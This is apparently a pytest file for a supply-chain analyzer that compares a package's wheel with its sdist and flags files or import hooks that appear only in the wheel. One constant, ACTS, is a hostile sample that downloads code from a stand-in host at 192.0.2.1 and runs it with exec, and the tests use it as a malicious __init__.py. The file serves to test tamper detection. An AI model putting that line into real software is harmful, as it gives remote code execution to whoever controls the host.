"""The wheel and the sdist of one release: what one holds and the other does not."""

from __future__ import annotations

import io

import pytest

from analyzer.contents import contents_of
from analyzer.inventory import ReaderReport
from analyzer.reader import read_artifact
from analyzer.siblings import compare_sibling
from models.canonical import Digest
from models.contents import ContentsBaseline
from models.evidence import Finding, Severity
from tests.analyzer.archives import make_sdist, make_wheel

Files = dict[str, bytes | str]
HONEST: Files = {"reenact_demo/__init__.py": "x = 1\n", "reenact_demo/a.py": "y = 2\n"}
ACTS = "import os, urllib.request as u\nexec(u.urlopen('http://192.0.2.1/x').read())\n"


def read(files: Files, *, sdist: bool) -> ReaderReport:
    data = make_sdist(files) if sdist else make_wheel(files)
    name = "reenact_demo-1.0.tar.gz" if sdist else "reenact_demo-1.0-py3-none-any.whl"
    kind = "sdist" if sdist else "wheel"
    return read_artifact(io.BytesIO(data), filename=name, kind=kind, size_bytes=len(data))


def as_sibling(report: ReaderReport) -> ContentsBaseline:
    contents = contents_of(report)
    assert contents is not None
    digest = Digest("sha256:" + "0" * 64)
    return ContentsBaseline(filename=report.filename, evidence_digest=digest, contents=contents)


def compared(wheel: Files, sdist: Files) -> tuple[tuple[Finding, ...], tuple[int, int]]:
    """The wheel's findings, and the count as either side tells it."""
    one, other = read(wheel, sdist=False), read(sdist, sdist=True)
    signals, findings = compare_sibling(one, contents_of(one), as_sibling(other))
    back, none = compare_sibling(other, contents_of(other), as_sibling(one))
    assert none == ()
    counts = (signals[0].value, back[0].value)
    assert all(isinstance(count, int) for count in counts)
    return findings, counts  # type: ignore[return-value]  # asserted above


@pytest.mark.parametrize(
    ("wheel", "sdist"),
    [
        (HONEST, HONEST),
        (HONEST, {f"src/{path}": text for path, text in HONEST.items()}),  # another root
        (HONEST, {**HONEST, "setup.py": "s = 1", "tests/test_a.py": "t = 1"}),
        (HONEST, {path: str(text).replace("\n", "\r\n") for path, text in HONEST.items()}),
        ({**HONEST, "reenact_demo/_version.py": "v = '1.0'"}, HONEST),
        ({**HONEST, "reenact_demo/a_pb2.py": "made = 1"}, HONEST),
        ({**HONEST, "reenact_demo/empty.py": ""}, HONEST),
    ],
)
def test_compare_sibling__what_builds_do_is_no_finding(wheel: Files, sdist: Files) -> None:
    findings, _ = compared(wheel, sdist)
    assert findings == ()


@pytest.mark.parametrize(
    ("more", "severity", "what", "path"),
    [
        ({"reenact_demo/b.py": "z = 3\n"}, Severity.LOW, "file", "reenact_demo/b.py"),
        ({"reenact_demo/a.py": "y = 3\n"}, Severity.LOW, "file", "reenact_demo/a.py"),
        ({"x.pth": "import demo\n"}, Severity.MEDIUM, "hook", "x.pth"),
        ({"reenact_demo/__init__.py": ACTS}, Severity.HIGH, "doubtful", "reenact_demo/__init__.py"),
    ],
)
def test_compare_sibling__what_only_the_wheel_has(
    more: Files, severity: Severity, what: str, path: str
) -> None:
    findings, counts = compared({**HONEST, **more}, HONEST)
    (found,) = findings
    assert (found.severity, found.what, found.place.path) == (severity, what, path)
    assert counts == (1, 1)


def test_compare_sibling__what_both_hold_is_not_charged_as_a_difference() -> None:
    findings, _ = compared({"reenact_demo/__init__.py": ACTS}, {"reenact_demo/__init__.py": ACTS})
    assert findings == ()


def test_compare_sibling__nothing_is_said_of_what_is_not_known() -> None:
    wheel = read(HONEST, sdist=False)
    contents = contents_of(wheel)
    assert compare_sibling(wheel, contents, None) == ((), ())
    nothing = as_sibling(read({}, sdist=True))
    assert compare_sibling(wheel, contents, nothing) == ((), ())
